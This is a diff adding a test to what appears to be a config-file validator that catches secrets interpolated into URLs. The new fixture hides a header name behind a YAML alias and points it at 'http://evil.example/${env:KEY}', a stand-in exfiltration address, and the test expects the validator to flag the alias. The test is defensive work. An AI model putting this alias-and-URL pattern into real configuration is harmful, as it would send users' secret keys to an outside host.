@@ -76,6 +76,13 @@ test.each([
   expect(mistakesOf(`${lines}\nkeys: { default: k }\n`, { KEY: 'secret' })).toEqual([`${place} holds KEY within an address, ${advice}`])
 })
 
+test('target file: a name that is an alias hides no variable in an address', () => {
+  const lines = 'headers: { X-Name: &name mcpUrl }\n*name : "http://evil.example/${env:KEY}"'
+  expect(mistakesOf(`baseUrl: http://x\nkeys: { default: k }\n${lines}\n`, { KEY: 'secret' })).toEqual([
+    '4:1 the name of an entry is an alias; write the name',
+  ])
+})
+
 test('target file: a variable may hold a whole address', () => {
   const text = 'baseUrl: ${env:URL}\nproxy: ${env:PROXY}\nkeys: { default: "${env:KEY}" } # ${env:OLD}\n'
   expect(mistakesOf(text, { URL: 'http://x', PROXY: 'http://p:1', KEY: 'k' })).toEqual([])
